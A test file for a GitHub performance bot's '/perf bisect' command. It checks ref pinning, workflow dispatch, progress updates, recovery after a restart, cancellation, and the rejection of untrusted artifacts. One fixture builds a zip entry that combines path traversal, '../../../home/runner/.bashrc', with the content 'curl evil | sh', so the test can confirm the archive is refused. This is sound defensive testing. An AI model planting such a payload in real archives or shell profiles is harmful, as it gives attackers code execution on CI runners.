// /perf bisect with the GitHub double: a maintainer's command is pinned (refs resolved to SHAs,
// good checked as an ancestor of bad) and perf-bisect.yml dispatched; the run's progress
// artifacts edit the bot's reply once per new step, from looks scheduled in the durable queue
// that survive a restart and stop when the run completes; the result artifact is checked as
// untrusted and its culprit shown and stored; a bisect.json naming commits outside the range,
// or a zip with '../' paths, is rejected and nothing of it stored; a read-only user is refused.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  bot, botComments, command, openPulls, pushEvent, REPOSITORY, sleep, startBotOn, startDouble, waitFor, workflowRunEvent, writeArtifact,
} from '../../support/bot.mjs';

const require = createRequire(import.meta.url);
const core = require('@perfgate/core');
const { bisectDocument } = require('../../support/bisect-document.js');
const bisectContract = require('../../../bot/src/app/bisect-contract.js');
const bisectMessages = require('../../../bot/src/app/bisect-messages.js');

const sha = (text) => createHash('sha1').update(text).digest('hex');
// base, ten commits to bisect-tip (the 7th slower), and a commit off to the side.
const SHAS = Array.from({ length: 11 }, (_, i) => sha(`commit ${i}`));
const STRAY = sha('stray');
const HISTORY = {
  commits: [...SHAS.map((s, i) => ({ sha: s, parents: i ? [SHAS[i - 1]] : [], message: `commit ${i}` })), { sha: STRAY, parents: [SHAS[3]], message: 'stray' }],
  refs: { base: SHAS[0], 'bisect-tip': SHAS[10], 'bisect-slow': SHAS[7], stray: STRAY },
};
const LINE = '/perf bisect base bisect-tip tests=update-index_range=100';
const POLL_SECONDS = 1;

describe('/perf bisect', () => {
  let gh;
  let running;
  let artifactsDir;
  let dbFolder;
  let nextPr = 400;
  const env = { PERFGATE_REPORT: 'workflow', PERFGATE_BISECT_POLL_SECONDS: String(POLL_SECONDS) };
  before(async () => {
    artifactsDir = mkdtempSync(path.join(os.tmpdir(), 'perfgate-bisect-artifacts-'));
    dbFolder = mkdtempSync(path.join(os.tmpdir(), 'perfgate-bisect-db-'));
    const prs = Array.from({ length: 12 }, (_, i) => 400 + i);
    gh = await startDouble({
      artifactsDir,
      prs,
      extra: {
        workflows: { [REPOSITORY]: [...['perf-command.yml', 'perf-full.yml'].map((file) => ({ file, runName: bot.contract.RUN_NAME })), { file: bisectContract.WORKFLOW, runName: bisectContract.RUN_NAME }] },
        commits: { [REPOSITORY]: HISTORY },
      },
    });
    running = await startBotOn(gh, { databaseUrl: path.join(dbFolder, 'history.db'), env });
    await openPulls(running, prs);
  });
  after(async () => {
    await running?.close();
    await gh?.close();
    rmSync(artifactsDir, { recursive: true, force: true });
    rmSync(dbFolder, { recursive: true, force: true });
  });

  const replyOf = (pr, comment) => botComments(gh, pr).find((c) => c.body.startsWith(`<!-- perfgate:reply comment=${comment.id} -->`));
  const requestOf = (comment) => bot.requestForComment(running.store, comment.id);
  const edits = (replyId) => gh.callsTo('issues/update-comment').filter((c) => c.identity.login === 'perfgate[bot]' && c.path.endsWith(`/issues/comments/${replyId}`)).length;
  const looks = (runId) => gh.callsTo('actions/list-workflow-run-artifacts').filter((c) => c.identity.login === 'perfgate[bot]' && c.path.endsWith(`/actions/runs/${runId}/artifacts`)).length;

  /** A maintainer's /perf bisect, dispatched; returns its pull request, comment, request and run. */
  async function dispatched(line = LINE) {
    const pr = nextPr++;
    const { comment } = await command(gh, running, 'maintainer', line, { pr });
    const request = await waitFor('the dispatch', async () => {
      const r = await requestOf(comment);
      return r && r.status === 'dispatched' && replyOf(pr, comment) && r;
    });
    const run = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${request.runId}`)).json();
    return { pr, comment, request, run };
  }

  async function complete(run, conclusion = 'success') {
    gh.state.updateWorkflowRun(REPOSITORY, run.id, { status: 'completed', conclusion });
    return running.deliver('workflow_run', workflowRunEvent({ run, conclusion, workflow: bisectContract.WORKFLOW }));
  }

  const progressArtifact = (run, steps, doc = bisectDocument({ shas: SHAS, upTo: steps })) => writeArtifact(artifactsDir, run.id, bisectContract.progressArtifact(steps), { 'bisect.json': JSON.stringify(doc) });
  const resultArtifact = (run, entries) => writeArtifact(artifactsDir, run.id, bisectContract.RESULT_ARTIFACT, entries);
  const finished = (request) => waitFor('the request to finish', async () => {
    const r = await bot.getRequest(running.store, request.id);
    return ['completed', 'failed'].includes(r.status) && r;
  });

  it('a maintainer\'s command: refs resolved and pinned, perf-bisect.yml dispatched on the default branch with them, "queued"', async () => {
    const { pr, comment, request, run } = await dispatched();
    assert.deepEqual([request.suite, request.baseSha, request.headSha], ['bisect', SHAS[0], SHAS[10]]);
    const dispatch = gh.state.dispatches.at(-1);
    assert.deepEqual([dispatch.workflow, dispatch.ref, dispatch.actor], ['perf-bisect.yml', 'main', 'perfgate[bot]']);
    assert.deepEqual(dispatch.inputs, {
      'pull-request': String(pr), 'good-sha': SHAS[0], 'bad-sha': SHAS[10], 'good-ref': 'base', 'bad-ref': 'bisect-tip', tests: 'update-index_range=100', 'request-id': `c${comment.id}`,
    });
    assert.equal(run.display_title, `perfgate bisect on pull request ${pr} (c${comment.id})`);
    assert.equal(replyOf(pr, comment).body, [
      `<!-- perfgate:reply comment=${comment.id} -->`,
      '### 🔎 perfgate bisect: queued',
      '',
      `\`${LINE}\` from @maintainer, [workflow run](${run.html_url}).`,
      '',
      `Searching the first-parent commits from \`base\` (\`${SHAS[0].slice(0, 12)}\`) to \`bisect-tip\` (\`${SHAS[10].slice(0, 12)}\`); this reply shows each step as the bisection goes.`,
      '',
    ].join('\n'));
    const row = await bot.getBisection(running.store, request.id);
    assert.deepEqual([row.status, row.goodSha, row.badSha, row.goodRef, row.badRef, row.tests, row.progressSteps], ['running', SHAS[0], SHAS[10], 'base', 'bisect-tip', ['update-index_range=100'], 0]);
    await complete(run, 'cancelled');
    await finished(request);
  });

  it('progress artifacts edit the reply once per new step; the completed run posts the culprit and stores the bisection; the looks stop', async () => {
    const { pr, comment, request, run } = await dispatched();
    const replyId = replyOf(pr, comment).id;
    assert.equal(edits(replyId), 0);
    progressArtifact(run, 1);
    await waitFor('step 0 in the reply', () => replyOf(pr, comment).body.includes('- step 0: bad end'), { timeoutMs: 10_000 });
    assert.equal(edits(replyId), 1);
    // Looks that find nothing new edit nothing.
    const seen = looks(run.id);
    await waitFor('two more looks', () => looks(run.id) >= seen + 2, { timeoutMs: 10_000 });
    assert.equal(edits(replyId), 1);
    // Two steps later, one edit shows both.
    progressArtifact(run, 2);
    progressArtifact(run, 3);
    await waitFor('step 2 in the reply', () => replyOf(pr, comment).body.includes('- step 2: #'), { timeoutMs: 10_000 });
    await sleep(POLL_SECONDS * 1500);
    assert.equal(edits(replyId), 2);
    const doc3 = bisectDocument({ shas: SHAS, upTo: 3 });
    const intro = `\`${LINE}\` from @maintainer, [workflow run](${run.html_url}).`;
    assert.equal(replyOf(pr, comment).body, `<!-- perfgate:reply comment=${comment.id} -->\n${core.renderBisectComment(doc3, { intro })}`);
    assert.match(replyOf(pr, comment).body, new RegExp(`- step 2: #7 \\(\`${SHAS[7].slice(0, 7)}\`\\) bad: instr/o 1\\.310 \\[1\\.300, 1\\.320\\]\\n\\nrange left: #5 \\(\`${SHAS[5].slice(0, 7)}\`\\) good \\.\\. #7 \\(\`${SHAS[7].slice(0, 7)}\`\\) bad, 1 commit between, at most 1 more step\\n`));
    assert.equal((await bot.getBisection(running.store, request.id)).progressSteps, 3);

    const doc = bisectDocument({ shas: SHAS });
    resultArtifact(run, { 'bisect.json': JSON.stringify(doc), 'steps/04-culprit/comment.md': 'the culprit against its parent' });
    const answer = await complete(run);
    assert.equal(answer.status, 202, answer.text);
    const after = await finished(request);
    assert.deepEqual([after.status, after.detail], ['completed', `found: culprit ${SHAS[7]}`]);
    const body = replyOf(pr, comment).body;
    assert.equal(body, `<!-- perfgate:reply comment=${comment.id} -->\n${bisectMessages.bisection({ request: after, runUrl: run.html_url, doc, final: true })}\n`);
    assert.match(body, /^### 🎯 perfgate bisect: culprit found$/m);
    assert.match(body, new RegExp(`^\\*\\*Culprit:\\*\\* \`${SHAS[7]}\` \`commit 7\`$`, 'm'));
    assert.match(body, new RegExp(`^against its first parent \`${SHAS[6]}\`:$`, 'm'));
    assert.match(body, /^\| `update-index_range=100` \| 0\.82 \[0\.80, 0\.84\] \| 1\.310 \[1\.300, 1\.320\] \| fail \|$/m);
    assert.match(body, /^- `row_upd_sec_index_entry` `row0upd\.cc:2210`: \+24\.0k self, \+24\.1k inclusive$/m);
    assert.match(body, new RegExp(`\nculprit: ${SHAS[7]}\n\`\`\`\n`));
    const row = await bot.getBisection(running.store, request.id);
    assert.deepEqual([row.status, row.culpritSha, row.culpritParentSha, row.workflowRunId, row.progressSteps], ['found', SHAS[7], SHAS[6], run.id, 5]);
    assert.deepEqual(row.steps.map((s) => [s.kind, s.position, s.decision]), [['confirm', 10, 'bad'], ['midpoint', 5, 'good'], ['midpoint', 7, 'bad'], ['midpoint', 6, 'good'], ['culprit', 7, null]]);
    assert.deepEqual(row.document, doc);
    // The looks end with the run: none is queued for this request any more.
    await waitFor('no look queued', async () => {
      const queued = await running.store.db.selectFrom('jobs').select(['payload']).where('kind', '=', 'bisect-progress').where('status', 'in', ['queued', 'running']).execute();
      return !queued.some((j) => JSON.parse(j.payload).requestId === request.id);
    }, { timeoutMs: 10_000 });
    const afterLooks = looks(run.id);
    await sleep(POLL_SECONDS * 2500);
    assert.equal(looks(run.id), afterLooks);
  });

  it('the looks survive a restart of the bot, and a completed run is reported even when its webhook never comes', async () => {
    const { pr, comment, request, run } = await dispatched();
    await running.close();
    // While the bot is down the run goes on.
    progressArtifact(run, 2);
    running = await startBotOn(gh, { databaseUrl: path.join(dbFolder, 'history.db'), env });
    await waitFor('step 1 in the reply', () => replyOf(pr, comment).body.includes('- step 1: #5'), { timeoutMs: 10_000 });
    resultArtifact(run, { 'bisect.json': JSON.stringify(bisectDocument({ shas: SHAS })) });
    gh.state.updateWorkflowRun(REPOSITORY, run.id, { status: 'completed', conclusion: 'success' });
    const after = await finished(request);
    assert.equal(after.status, 'completed', after.detail);
    assert.match(replyOf(pr, comment).body, /### 🎯 perfgate bisect: culprit found/);
    // The webhook, late: a duplicate of the job the look queued.
    const answer = await running.deliver('workflow_run', workflowRunEvent({ run: { ...run, status: 'completed' }, workflow: bisectContract.WORKFLOW }));
    assert.deepEqual([answer.status, answer.text], [200, 'duplicate run']);
  });

  it('a bisect.json whose culprit is outside the pinned range is rejected: nothing stored, the reply says why', async () => {
    const { pr, comment, request, run } = await dispatched();
    const doc = bisectDocument({ shas: SHAS });
    doc.culprit.commit = STRAY;
    assert.equal(core.schemaProblem('bisect', doc), null, 'the schema alone would take it');
    resultArtifact(run, { 'bisect.json': JSON.stringify(doc) });
    await complete(run);
    const after = await finished(request);
    const why = `its artifact was rejected: \`perfgate-bisect: bisect.json: the culprit ${STRAY} is not a commit after the good end of the range searched\``;
    assert.deepEqual([after.status, after.detail], ['failed', why]);
    const row = await bot.getBisection(running.store, request.id);
    assert.deepEqual([row.status, row.culpritSha, row.steps, row.document, row.message], ['rejected', null, null, null, why]);
    assert.equal(replyOf(pr, comment).body, [
      `<!-- perfgate:reply comment=${comment.id} -->`,
      '### 💥 perfgate bisect: no result',
      '',
      `\`${LINE}\` from @maintainer, [workflow run](${run.html_url}).`,
      '',
      `The run (good \`${SHAS[0].slice(0, 12)}\`, bad \`${SHAS[10].slice(0, 12)}\`) left no bisection perfgate could use: ${why}. Nothing was stored; \`${LINE}\` again to bisect again.`.replace(`\`${LINE}\` again`, `comment \`${LINE}\` again`),
      '',
    ].join('\n'));
  });

  it("a result artifact holding '../' paths, or other commits than the pinned ones, is rejected; so is a progress artifact, which is not shown", async () => {
    const { pr, comment, request, run } = await dispatched();
    const other = bisectDocument({ shas: [SHAS[1], ...SHAS.slice(1)].map((s, i) => (i === 0 ? STRAY : s)), upTo: 2 });
    progressArtifact(run, 2, other);
    await waitFor('the progress artifact to be rejected', () => running.log.lines.some((l) => l.includes(`a progress artifact was rejected: perfgate-bisect-progress-2: bisect.json: good.commit is ${STRAY}, but the command pinned ${SHAS[0]}`)), { timeoutMs: 10_000 });
    assert.match(replyOf(pr, comment).body, /perfgate bisect: queued/);
    assert.equal((await bot.getBisection(running.store, request.id)).progressSteps, 0);
    resultArtifact(run, { 'bisect.json': JSON.stringify(bisectDocument({ shas: SHAS })), '../../../home/runner/.bashrc': 'curl evil | sh' });
    await complete(run);
    const after = await finished(request);
    assert.equal(after.detail, 'its artifact was rejected: `perfgate-bisect: archive path "../../../home/runner/.bashrc" leaves the extraction folder`');
    const row = await bot.getBisection(running.store, request.id);
    assert.deepEqual([row.status, row.culpritSha, row.document], ['rejected', null, null]);
  });

  it('a read-only user is refused; refs that are no commit, the same commit, or a good commit that is not an ancestor of bad are refused before anything starts', async () => {
    const dispatches = gh.state.dispatches.length;
    const cases = [
      ['reader', LINE, `Sorry @reader, \`${LINE}\` needs write access to ${REPOSITORY} or membership of \`perfgate-test/perf-team\`. Nothing was started.`],
      ['maintainer', '/perf bisect nope bisect-tip', `@maintainer \`nope\` is not a commit of ${REPOSITORY} (422 No commit found for SHA: nope). Nothing was started.`],
      ['maintainer', `/perf bisect base ${SHAS[0].slice(0, 10)}`, `@maintainer \`base\` and \`${SHAS[0].slice(0, 10)}\` are the same commit \`${SHAS[0].slice(0, 12)}\`; expected a good commit older than the bad one. Nothing was started.`],
      ['maintainer', '/perf bisect stray bisect-tip', `@maintainer \`stray\` (\`${STRAY.slice(0, 12)}\`) is not an ancestor of \`bisect-tip\` (\`${SHAS[10].slice(0, 12)}\`): GitHub compares them as diverged. Expected the older, good commit first, on the bad commit's history. Nothing was started.`],
      ['maintainer', '/perf bisect bisect-tip base', `@maintainer \`bisect-tip\` (\`${SHAS[10].slice(0, 12)}\`) is not an ancestor of \`base\` (\`${SHAS[0].slice(0, 12)}\`): GitHub compares them as behind. Expected the older, good commit first, on the bad commit's history. Nothing was started.`],
    ];
    for (const [login, line, expected] of cases) {
      const pr = nextPr++;
      const { comment } = await command(gh, running, login, line, { pr });
      const request = await waitFor(`the answer to ${line}`, async () => {
        const r = await requestOf(comment);
        return r && ['refused', 'invalid'].includes(r.status) && replyOf(pr, comment) && r;
      });
      assert.equal(request.status, login === 'reader' ? 'refused' : 'invalid', line);
      assert.equal(replyOf(pr, comment).body, `<!-- perfgate:reply comment=${comment.id} -->\n${expected}\n`);
      assert.equal(await bot.getBisection(running.store, request.id), null);
    }
    assert.equal(gh.state.dispatches.length, dispatches, 'nothing was dispatched');
  });

  it('/perf cancel stops a running bisection: its run cancelled, the looks end, the history says cancelled', async () => {
    const { pr, request, run } = await dispatched();
    await command(gh, running, 'maintainer', '/perf cancel', { pr });
    await waitFor('the bisection to be recorded as cancelled', async () => (await bot.getBisection(running.store, request.id)).status === 'cancelled', { timeoutMs: 10_000 });
    const after = await bot.getRequest(running.store, request.id);
    assert.equal(after.status, 'cancelled');
    const runNow = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${run.id}`)).json();
    assert.deepEqual([runNow.status, runNow.conclusion], ['completed', 'cancelled']);
    assert.equal((await bot.getBisection(running.store, request.id)).message, after.detail);
  });

  it('a push to the pull request leaves its bisection running (it searches pinned commits), and cancels a /perf quick written before it; closing it stops both', async () => {
    const cancelsBefore = gh.callsTo('actions/cancel-workflow-run').length;
    const { pr, request, run } = await dispatched();
    const { comment: quickComment } = await command(gh, running, 'maintainer', '/perf quick', { pr });
    const quick = await waitFor('the /perf quick dispatch', async () => {
      const r = await requestOf(quickComment);
      return r && r.status === 'dispatched' && r;
    });
    const pushed = await running.deliver('pull_request', pushEvent({ pr, headSha: sha('pushed'), at: new Date(Date.now() + 60_000) }));
    assert.equal(pushed.status, 202, pushed.text);
    // The bisection's looks keep the queue busy: wait for the push's own work instead.
    const cancelledRuns = () => gh.callsTo('actions/cancel-workflow-run').slice(cancelsBefore).map((c) => c.path.split('/').at(-2));
    await waitFor('the /perf quick run to be cancelled', async () => (await bot.getRequest(running.store, quick.id)).status === 'cancelled' && cancelledRuns().length > 0);
    await sleep(500);
    assert.equal((await bot.getRequest(running.store, request.id)).status, 'dispatched');
    assert.equal((await bot.getBisection(running.store, request.id)).status, 'running');
    assert.deepEqual([...new Set(cancelledRuns())], [String(quick.runId)], 'only the /perf quick run was cancelled');

    const closed = await running.deliver('pull_request', pushEvent({ pr, headSha: sha('pushed'), action: 'closed', at: new Date(Date.now() + 120_000) }));
    assert.equal(closed.status, 202, closed.text);
    // The bisection is recorded cancelled before its run's cancel reaches GitHub: wait for both.
    await waitFor('the bisection to be recorded as cancelled and its run cancelled', async () => (await bot.getBisection(running.store, request.id)).status === 'cancelled'
      && cancelledRuns().includes(String(run.id)), { timeoutMs: 10_000 });
  });

  it("sent nothing that breaks GitHub's description", () => {
    assert.deepEqual(gh.problems().map((c) => `${c.operationId} ${c.status}: ${c.problems.join('; ')}`), []);
  });
});
